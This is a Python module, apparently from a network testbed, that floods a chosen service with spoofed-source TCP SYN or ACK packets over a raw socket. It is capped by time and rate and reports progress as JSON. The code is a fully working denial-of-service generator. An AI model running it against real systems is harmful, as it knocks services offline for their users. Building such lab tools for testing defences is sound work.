"""A bounded SYN or ACK flood from random sources, for the testbed's attacker
namespace. Sends pre-built frames (valid checksums) on an AF_PACKET socket at
a capped rate for a fixed time, prints one JSON line per second and a final
summary, and never runs past --duration.

    python -m synfleet_lab.testbed.flood --ifname eth0 --dst-mac 02:.. --service 198.19.0.10 \\
        --port 8080 --kind syn --rate 20000 --duration 10
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import socket
import sys
import time

from synfleet_lab import frames

POOL = 8192          # distinct frames, each with its own random source and port
BURST = 64


def build_pool(kind: str, prefix: str, service: str, port: int, src_mac: bytes, dst_mac: bytes,
               rng: random.Random) -> list[bytes]:
    net = ipaddress.ip_network(prefix)
    flags = frames.SYN if kind == "syn" else frames.ACK
    pool = []
    for _ in range(POOL):
        source = str(net[rng.randrange(1, net.num_addresses - 1)])
        options = frames.linux_syn_options(1460, 7, rng.getrandbits(32)) if kind == "syn" else b""
        frame = frames.tcp(source, service, rng.randrange(1024, 65536), port, flags,
                           rng.getrandbits(32), 0 if kind == "syn" else rng.getrandbits(32), options)
        pool.append(dst_mac + src_mac + frame[12:])
    return pool


def flood(sock: socket.socket, pool: list[bytes], rate: int, duration: float, progress) -> int:
    sent, start = 0, time.monotonic()
    next_report = 1.0
    try:
        while True:
            elapsed = time.monotonic() - start
            if elapsed >= duration:
                break
            if elapsed >= next_report:
                progress({"t": round(elapsed, 2), "sent": sent})
                next_report += 1.0
            ahead = sent / rate - elapsed
            if ahead > 0:
                time.sleep(min(ahead, 0.01))
                continue
            for i in range(BURST):
                try:
                    sock.send(pool[(sent + i) % POOL])
                except BlockingIOError:
                    continue
            sent += BURST
    finally:
        sock.close()
    return sent


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--ifname", required=True)
    parser.add_argument("--dst-mac", required=True, help="the next hop's MAC (the proxy)")
    parser.add_argument("--service", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--kind", choices=["syn", "ack"], default="syn")
    parser.add_argument("--source-prefix", default="10.66.0.0/16",
                        help="sources are drawn from here (a prefix routed to the attacker)")
    parser.add_argument("--rate", type=int, default=20000, help="packets per second, at most")
    parser.add_argument("--duration", type=float, default=10.0, help="seconds, at most 120")
    parser.add_argument("--seed", type=int, default=None)
    args = parser.parse_args(argv)
    if not 0 < args.duration <= 120 or not 0 < args.rate <= 10_000_000:
        parser.error("--duration must be in (0, 120] and --rate in (0, 10^7]")
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((args.ifname, 0))
    src_mac = sock.getsockname()[4]
    dst_mac = bytes.fromhex(args.dst_mac.replace(":", ""))
    pool = build_pool(args.kind, args.source_prefix, args.service, args.port, src_mac, dst_mac,
                      random.Random(args.seed))

    def progress(entry: dict) -> None:
        print(json.dumps(entry), flush=True)

    start = time.monotonic()
    try:
        sent = flood(sock, pool, args.rate, args.duration, progress)
    except KeyboardInterrupt:   # Ctrl-C reaches the whole process group: stop quietly
        return 130
    print(json.dumps({"done": True, "sent": sent, "duration_s": round(time.monotonic() - start, 3)}),
          flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
